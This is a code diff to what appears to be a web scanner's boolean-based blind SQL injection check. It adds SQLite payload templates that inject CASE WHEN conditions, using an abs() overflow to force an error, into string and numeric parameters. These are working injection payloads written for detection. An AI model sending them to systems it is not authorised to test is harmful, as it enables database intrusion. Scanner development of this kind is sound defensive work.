@@ -18,6 +18,9 @@ const isColumn = (own: string) => /^(?:\d{1,3}|[a-z_][\w.]{0,60})$/i.test(own);
 const oneOrNone = (a: number, b: number) => `(CASE WHEN ${a}=${b} THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)`;
 /** The same for MySQL without a blank: 0 where both numbers are the same. */
 const zeroOrNone = (a: number, b: number) => `IF(${a}=${b},0,(SELECT(1)UNION(SELECT(2))))`;
+/** Nothing where both numbers are the same, and no value where they are not: what SQLite and others refuse to work out. */
+const nothingOrNone = (a: number, b: number, nothing: string) =>
+  `(CASE WHEN ${a}=${b} THEN ${nothing} ELSE abs(-9223372036854775807-1) END)`;
 const isNumber = (own: string) => /^-?\d+(?:\.\d+)?$/.test(own);
 
 const forms: readonly Form[] = [
@@ -34,6 +37,9 @@ const forms: readonly Form[] = [
   // || is MySQL's too. Nothing is found beside: the condition is 0, or has no value.
   { value: (own, a, b) => `${own}||${zeroOrNone(a, b)}`, fits: isNumber },
   { value: (own, a, b) => `${own}'||${zeroOrNone(a, b)}||'0`, fits: () => true },
+  // Where the value finds nothing, so that nothing narrows it, and the database is SQLite.
+  { value: (own, a, b) => `${own}'||${nothingOrNone(a, b, "''")}||'`, fits: () => true },
+  { value: (own, a, b) => `${own}-${nothingOrNone(a, b, '0')}`, fits: isNumber },
   // Where a query sorts by the value: one more column, which changes nothing or has no value.
   { value: (own, a, b) => `${own},${oneOrNone(a, b)}`, fits: isColumn },
   { value: (own, a, b) => `${own}',${oneOrNone(a, b)},'`, fits: isColumn },
@@ -107,9 +113,10 @@ async function narrowed(
 
 /**
  * SQL injection (boolean-based blind). A condition behind a value decides what the page shows: with two that are true
- * it is the page as it was, with two that are false both times the same other one. Fires for `?id=7 AND 5=5` against
- * `?id=7 AND 5=6`; silent where the page differs from one request to the next, where both forms show the same, and
- * where the condition without its operator changes nothing. Firm.
+ * it is the page as it was, with two that are false both times the same other one. Where the value finds nothing, what
+ * is false has no value at all, and the database refuses the query. Fires for `?id=7 AND 5=5` against `?id=7 AND 5=6`;
+ * silent where the page differs from one request to the next, where both forms show the same, and where the condition
+ * without its operator changes nothing. Firm.
  */
 export const sqlBoolean: ActiveCheck = {
   id: 'sql-boolean',
